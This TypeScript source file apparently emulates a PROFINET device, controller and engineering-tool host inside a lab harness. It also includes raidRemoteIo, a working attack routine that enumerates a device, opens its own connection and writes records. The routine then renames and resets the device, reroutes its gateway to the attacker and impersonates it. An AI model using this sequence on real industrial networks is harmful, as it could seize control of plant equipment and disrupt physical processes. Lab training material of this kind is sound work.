/**
 * Remote inputs and outputs by PROFINET: a device, the controller that connects to it, and somebody with an engineering tool. Any host may be one of them; all are silent until the lab
 * says so. Both sides are written here octet by octet from IEC 61158-6-10 (4.3 DCP, 4.7 cyclic data, 4.8 alarms, 4.10 connection management) and C706 (12, RPC without connections),
 * as no package for Node speaks it.
 */
import { createSocket, type Socket } from "node:dgram";
import { once } from "node:events";
import { setTimeout as sleep } from "node:timers/promises";
import { EtherPort, type Frame } from "./etherPort.ts";
import type { Actions, HostContext } from "./host.ts";
import { hostNamed } from "./plant.ts";

const ETHER_TYPE = 0x8892;
const LOOPBACK_PORT = 30_892;
const PORT = 34_964;
const ALL = "01:0e:cf:00:00:00";
const FRAME = { getSet: 0xfefd, identify: 0xfefe, identified: 0xfeff, alarm: 0xfe01 } as const;
const SERVICE = { get: 3, set: 4, identify: 5 } as const;
/** Options and suboptions of DCP. */
const OPTION = {
	ip: 0x0102,
	type: 0x0201,
	name: 0x0202,
	id: 0x0203,
	role: 0x0204,
	signal: 0x0503,
	response: 0x0504,
	reset: 0x0506,
} as const;
const VENDOR = 0x03e7; // no vendor of the plant: what the number stands for does not matter
const DEVICE = 0x0101;
const OPERATION = { connect: 0, release: 1, read: 2, write: 3, control: 4, readImplicit: 5 } as const;
/** FrameIDs of the cyclic data, towards the controller and towards the device. */
const INPUT = 0x8001;
const OUTPUT = 0x8002;
const CYCLE = 128;
const SETTLE = 150;
const RUN = 0x35; // primary, valid, run, no problem
const STOP = 0x25;

const u8 = (...octets: number[]): Buffer => Buffer.from(octets);
const u16 = (value: number): Buffer => u8((value >> 8) & 255, value & 255);
const u32 = (value: number): Buffer => Buffer.concat([u16((value >>> 16) & 0xffff), u16(value & 0xffff)]);
const join = (...parts: Buffer[]): Buffer => Buffer.concat(parts);
const text = (value: string): Buffer => Buffer.from(value, "latin1");
const padded = (value: string, size: number): Buffer => text(value.padEnd(size, " ").slice(0, size));
const ipBytes = (ip: string): Buffer => u8(...ip.split(".").map(Number));
const macBytes = (mac: string): Buffer => Buffer.from(mac.replaceAll(":", ""), "hex");

/** A block of DCP: option, length, qualifier or information where it has one, filled up to an even length. */
function option(number: number, body: Buffer, qualifier?: number): Buffer {
	const all = qualifier === undefined ? body : join(u16(qualifier), body);
	return join(u16(number), u16(all.length), all, Buffer.alloc(all.length & 1));
}
const dcp = (frame: number, service: number, type: number, xid: number, ...blocks: Buffer[]): Buffer => {
	const body = join(...blocks);
	return join(u16(frame), u8(service, type), u32(xid), u16(frame === FRAME.identify ? 1 : 0), u16(body.length), body);
};

/** A block of the connection management. */
const block = (type: number, ...body: Buffer[]): Buffer => {
	const all = join(...body);
	return join(u16(type), u16(all.length + 2), u8(1, 0), all);
};
const UUID_HEAD = Buffer.from("dea000006c9711d18271", "hex");
const OBJECT = join(UUID_HEAD, u16(1), u16(DEVICE), u16(VENDOR));
const interfaceOf = (number: number): Buffer => join(u32(0xdea00000 + number), Buffer.from("6c9711d1827100a02442df7d", "hex"));

interface Call {
	readonly type: number;
	readonly interface: number;
	readonly activity: Buffer;
	readonly sequence: number;
	readonly operation: number;
	readonly body: Buffer;
}
const rpc = ({ type, interface: number, activity, sequence, operation, body }: Call): Buffer =>
	join(
		u8(4, type, type === 0 ? 0x20 : 0x0a, 0, 0, 0, 0, 0),
		OBJECT,
		interfaceOf(number),
		activity,
		u32(0),
		u32(1),
		u32(sequence),
		u16(operation),
		u16(0xffff),
		u16(0xffff),
		u16(body.length),
		u16(0),
		u8(0, 0),
		body,
	);
/** Requests say the most that an answer may have, answers their status; then come length and array (4.10.3). */
const ndr = (first: number, blocks: Buffer): Buffer =>
	join(u32(first), u32(blocks.length), u32(first === 0 ? 0xffff : first), u32(0), u32(blocks.length), blocks);
const record = (type: number, sequence: number, ar: Buffer, slot: number, index: number, length: number, tail = 24): Buffer =>
	block(type, u16(sequence), ar, u32(0), u16(slot), u16(1), u16(0), u16(index), u32(length), Buffer.alloc(tail));
const control = (type: number, ar: Buffer, command: number): Buffer => block(type, u16(0), ar, u16(1), u16(0), u16(command), u16(0));
const IDENTIFICATION = block(
	0x0020,
	u16(VENDOR),
	padded("RIO-16-DIO", 20),
	padded("SN-0042-1177", 16),
	u16(3),
	u8(0x56, 2, 1, 4),
	u16(0),
	u16(0),
	u16(0),
	u8(1, 1),
	u16(0x1e),
);

/** The UDP side of a host: asks, and answers what it is asked. */
class Calls {
	readonly socket: Socket = createSocket("udp4");
	readonly #answers = new Map<string, (body: Buffer) => void>();
	readonly #serve: (operation: number, body: Buffer, peer: string) => Buffer | undefined;
	readonly #node: Buffer;
	#activity = 1;

	constructor(mac: string, serve: (operation: number, body: Buffer, peer: string) => Buffer | undefined) {
		this.#node = macBytes(mac);
		this.#serve = serve;
		this.socket.on("error", () => {});
		this.socket.on("message", (bytes, { address, port }) => this.#take(bytes, address, port));
	}

	async open(port: number): Promise<void> {
		this.socket.bind(port);
		await once(this.socket, "listening");
	}

	/** Waits for an answer, which may not come. */
	async ask(to: string, number: number, operation: number, blocks: Buffer): Promise<void> {
		const activity = join(u32(this.#activity++), u16(0x5a5a), u16(0x11d1), u16(0x8000), this.#node);
		const answered = new Promise<void>((done) => this.#answers.set(activity.toString("hex"), () => done()));
		this.socket.send(rpc({ type: 0, interface: number, activity, sequence: 0, operation, body: ndr(0xffff, blocks) }), PORT, to);
		await Promise.race([answered, sleep(1000)]);
	}

	#take(bytes: Buffer, address: string, port: number): void {
		if (bytes.length < 100) return;
		const activity = bytes.subarray(40, 56);
		const key = activity.toString("hex");
		if (bytes[1] !== 0) {
			this.#answers.get(key)?.(bytes);
			this.#answers.delete(key);
			return;
		}
		// A device has no answer to what is no block.
		if (bytes.length < 132) return;
		const operation = bytes.readUInt16BE(68);
		const answer = this.#serve(operation, bytes.subarray(100), address);
		if (answer === undefined) return;
		const call = { type: 2, interface: bytes.readUInt32BE(24) & 15, activity, sequence: bytes.readUInt32BE(64), operation };
		this.socket.send(rpc({ ...call, body: answer }), port, address);
	}
}

export function remoteIoActions(context: HostContext): Actions {
	const { mac } = context.host;
	let port: EtherPort | undefined;
	let calls: Calls | undefined;
	let timer: NodeJS.Timeout | undefined;
	let xid = 0x0100_0000 + Number(context.ip.split(".")[3] ?? 0) * 256;

	const open = async (take: (frame: Frame) => void): Promise<EtherPort> => {
		port = new EtherPort(mac, ETHER_TYPE, LOOPBACK_PORT, take);
		await port.open();
		return port;
	};
	const close = async (): Promise<void> => {
		clearInterval(timer);
		port?.close();
		calls?.socket.close();
		port = undefined;
		calls = undefined;
		await sleep(SETTLE);
	};
	/** Sends cyclic data until told otherwise. */
	const cycle = (to: string, frameId: number, status: () => number): void => {
		clearInterval(timer);
		let counter = 0;
		timer = setInterval(() => {
			counter = (counter + CYCLE * 32) & 0xffff;
			const data = Buffer.alloc(40);
			data[0] = 0x80;
			data[1] = (counter >> 12) & 15;
			port?.send(to, join(u16(frameId), data, u16(counter), u8(status(), 0)));
		}, CYCLE);
	};
	const ask = (to: string, service: number, ...blocks: Buffer[]): void => {
		const isSearch = service === SERVICE.identify;
		port?.send(to, dcp(isSearch ? FRAME.identify : FRAME.getSet, service, 0, ++xid, ...blocks));
	};

	let name = "rio-1";
	const describe = (): Buffer[] => [
		option(OPTION.ip, join(ipBytes(context.ip), ipBytes("255.255.255.0"), ipBytes("0.0.0.0")), 1),
		option(OPTION.type, text("Remote IO 16"), 0),
		option(OPTION.name, text(name), 0),
		option(OPTION.id, join(u16(VENDOR), u16(DEVICE)), 0),
		option(OPTION.role, u8(1, 0), 0),
	];
	/** Answers searches for all, or for its name, and what is asked of it. */
	const discover = ({ source, payload }: Frame): void => {
		const frameId = payload.readUInt16BE(0);
		if (frameId !== FRAME.identify && frameId !== FRAME.getSet) return;
		const service = payload[2]!;
		const number = payload.readUInt32BE(4);
		const first = payload.readUInt16BE(12);
		if ((payload[3]! & 1) !== 0) return;
		if (service === SERVICE.identify) {
			const wanted = first === OPTION.name ? payload.toString("latin1", 16, 16 + payload.readUInt16BE(14)) : name;
			if (wanted === name) port?.send(source, dcp(FRAME.identified, service, 1, number, ...describe()));
		} else if (service === SERVICE.get) port?.send(source, dcp(FRAME.getSet, service, 1, number, ...describe().slice(0, 3)));
		else {
			if (first === OPTION.name) name = payload.toString("latin1", 18, 16 + payload.readUInt16BE(14));
			port?.send(source, dcp(FRAME.getSet, service, 1, number, option(OPTION.response, join(u16(first), u8(0)))));
		}
	};
	/** What the device answers to its controller, and to anybody. */
	const serve =
		(peer: () => string) =>
		(operation: number, body: Buffer): Buffer => {
			const ar = body.subarray(8, 24);
			switch (operation) {
				case OPERATION.connect: {
					const relation = block(0x8101, u16(body.readUInt16BE(6)), ar, body.subarray(24, 26), macBytes(mac), u16(PORT));
					const cycles = [INPUT, OUTPUT].map((frameId, index) => block(0x8102, u16(index + 1), u16(index + 1), u16(frameId)));
					return ndr(0, join(relation, ...cycles, block(0x8103, u16(1), u16(1), u16(200))));
				}
				case OPERATION.write: {
					const isKnown = body.readUInt16BE(34) === 1;
					const status = isKnown ? 0 : 0xdf80b000;
					const answer = block(0x8008, body.subarray(6, 36), u32(isKnown ? 4 : 0), u16(0), u16(0), u32(status), Buffer.alloc(16));
					return ndr(status, answer);
				}
				case OPERATION.control: {
					// The parameters are there: the device says when it is ready.
					setTimeout(() => void calls?.ask(peer(), 2, OPERATION.control, control(0x0112, ar, 0x0002)), 60);
					return ndr(0, control(0x8110, ar, 0x0008));
				}
				case OPERATION.release:
					return ndr(0, control(0x8114, ar, 0x0008));
				default: {
					const index = body.readUInt16BE(34);
					if (index !== 0xaff0) return ndr(0xde80b000, Buffer.alloc(0));
					return ndr(0, join(record(0x8009, 1, ar, 0, index, IDENTIFICATION.length), IDENTIFICATION));
				}
			}
		};
	const connect = (ar: Buffer, type: number, properties: number, station: string): Buffer => {
		const relation = block(
			0x0101,
			u16(type),
			ar,
			u16(1),
			macBytes(mac),
			OBJECT,
			u32(properties),
			u16(100),
			u16(PORT),
			u16(station.length),
			text(station),
		);
		const cycles = [INPUT, OUTPUT].map((frameId, index) =>
			block(
				0x0102,
				u16(index + 1),
				u16(index + 1),
				u16(ETHER_TYPE),
				u32(2),
				u16(40),
				u16(frameId),
				u16(32),
				u16(CYCLE),
				u16(1),
				u16(0),
				u32(0xffffffff),
				u16(3),
				u16(3),
				u16(0xc000),
				Buffer.alloc(6),
				u16(1),
				u32(0),
				u16(1),
				u16(1),
				u16(1),
				u16(0),
				u16(0),
			),
		);
		const expected = block(0x0104, u16(1), u32(0), u16(1), u32(0x10), u16(0), u16(1), u16(1), u32(0x20), u16(1), u16(1), u16(2), u8(1, 1));
		return join(
			relation,
			...cycles,
			expected,
			block(0x0103, u16(1), u16(ETHER_TYPE), u32(0), u16(1), u16(3), u16(1), u16(200), u16(0xc000), u16(0xa000)),
		);
	};

	let ar: Buffer = Buffer.alloc(16);
	return {
		/** Is found, gets its address, and lets a controller connect; then it sends its inputs. */
		openRemoteIo: async (args) => {
			const controller = hostNamed(String(args.controller));
			let status = RUN;
			await open(discover);
			calls = new Calls(mac, (operation, body) => {
				if (operation === OPERATION.control) cycle(controller.mac, INPUT, () => status);
				if (operation === OPERATION.release) clearInterval(timer);
				if (operation === OPERATION.write) status = RUN;
				return serve(() => context.address(controller.name))(operation, body);
			});
			await calls.open(PORT);
		},
		/** A channel of the device has no load: it says so. */
		alarmRemoteIo: (args) => {
			const notification = block(0x0002, u16(1), u32(0), u16(1), u16(1), u32(0x10), u32(0x20), u16(0x8800));
			port?.send(
				hostNamed(String(args.controller)).mac,
				join(u16(FRAME.alarm), u16(1), u16(1), u8(0x11, 1), u16(0), u16(0xffff), u16(notification.length), notification),
			);
		},
		/** Searches the device by its name, gives it its address, connects, sends parameters, and then its outputs. */
		openController: async (args) => {
			const device = hostNamed(String(args.device));
			const to = context.address(device.name);
			ar = join(u32(0xc0ffee00 + Number(args.run ?? 0)), u16(0x1234), u16(0x11d1), u16(0x8000), macBytes(mac));
			let isRunning = true;
			if (args.isAgain !== true) {
				await open(({ source, payload }) => {
					if (payload.readUInt16BE(0) !== FRAME.alarm || source !== device.mac) return;
					// The notification is acknowledged (4.8).
					port?.send(source, join(u16(FRAME.alarm), u16(1), u16(1), u8(0x13, 0), u16(0xffff), u16(0), u16(0)));
				});
				calls = new Calls(mac, (operation, body) =>
					operation === OPERATION.control ? ndr(0, control(0x8112, body.subarray(8, 24), 0x0008)) : undefined,
				);
				await calls.open(PORT);
			}
			ask(ALL, SERVICE.identify, option(OPTION.name, text("rio-1")));
			await sleep(SETTLE);
			ask(device.mac, SERVICE.set, option(OPTION.ip, join(ipBytes(to), ipBytes("255.255.255.0"), ipBytes("0.0.0.0")), 0));
			await sleep(SETTLE);
			await calls!.ask(to, 1, OPERATION.connect, connect(ar, 1, 0x11, "controller-1"));
			await calls!.ask(to, 1, OPERATION.write, join(record(0x0008, 1, ar, 1, 1, 4), u32(0x00640001)));
			await calls!.ask(to, 1, OPERATION.control, control(0x0110, ar, 0x0001));
			await calls!.ask(to, 1, OPERATION.read, record(0x0009, 2, ar, 0, 0xaff0, 4096));
			await calls!.ask(to, 1, OPERATION.write, join(record(0x0008, 3, ar, 1, 1, 4), u32(0x00640002)));
			setTimeout(() => {
				isRunning = args.stops !== true;
			}, 2000);
			cycle(device.mac, OUTPUT, () => (isRunning ? RUN : STOP));
		},
		/** The connection is released, in good order. */
		releaseRemoteIo: async (args) => {
			clearInterval(timer);
			await calls?.ask(context.address(String(args.device)), 1, OPERATION.release, control(0x0114, ar, 0x0004));
		},
		closeRemoteIo: close,
		/** Looks who is there, blinks, gives the device another name and an address for good, resets it, takes its inputs and outputs, writes a record, and answers in its name. */
		raidRemoteIo: async (args) => {
			const device = hostNamed(String(args.device));
			const to = context.address(device.name);
			const own = join(u32(0xbadc0de0), u16(0x1234), u16(0x11d1), u16(0x8000), macBytes(mac));
			let isImpostor = false;
			await open(({ source, payload }) => {
				if (isImpostor && payload.readUInt16BE(0) === FRAME.identify)
					port?.send(source, dcp(FRAME.identified, SERVICE.identify, 1, payload.readUInt32BE(4), ...describe()));
			});
			calls = new Calls(mac, () => undefined);
			await calls.open(0);
			ask(ALL, SERVICE.identify, option(0xffff, Buffer.alloc(0)));
			await sleep(SETTLE);
			ask(device.mac, SERVICE.get, u16(OPTION.ip), u16(OPTION.type), u16(OPTION.name));
			await sleep(SETTLE);
			ask(device.mac, SERVICE.set, option(OPTION.signal, u16(0x0100), 0));
			await sleep(SETTLE);
			await calls.ask(to, 1, OPERATION.readImplicit, record(0x0009, 1, Buffer.alloc(16), 0, 0xaff0, 4096));
			await calls.ask(to, 1, OPERATION.readImplicit, record(0x0009, 1, Buffer.alloc(16), 9, 0x8028, 4096));
			await calls.ask(to, 1, OPERATION.connect, connect(own, 6, 0x01, "tool"));
			await calls.ask(to, 1, OPERATION.write, join(record(0x0008, 2, own, 1, 1, 4), u32(0)));
			await calls.ask(to, 1, OPERATION.write, join(record(0x0008, 3, own, 7, 2, 4), u32(0)));
			calls.socket.send(
				rpc({ type: 0, interface: 1, activity: own, sequence: 0, operation: OPERATION.write, body: ndr(0xffff, u16(0x0008)) }),
				PORT,
				to,
			);
			await sleep(SETTLE);
			ask(device.mac, SERVICE.set, option(OPTION.name, text("rio-9"), 1));
			await sleep(SETTLE);
			ask(device.mac, SERVICE.set, option(OPTION.reset, Buffer.alloc(0), 4));
			await sleep(SETTLE);
			ask(device.mac, SERVICE.set, option(OPTION.name, text("rio-1"), 1));
			await sleep(SETTLE);
			ask(device.mac, SERVICE.set, option(OPTION.ip, join(ipBytes(to), ipBytes("255.255.255.0"), ipBytes(context.ip)), 1));
			await sleep(SETTLE);
			isImpostor = true;
		},
	};
}
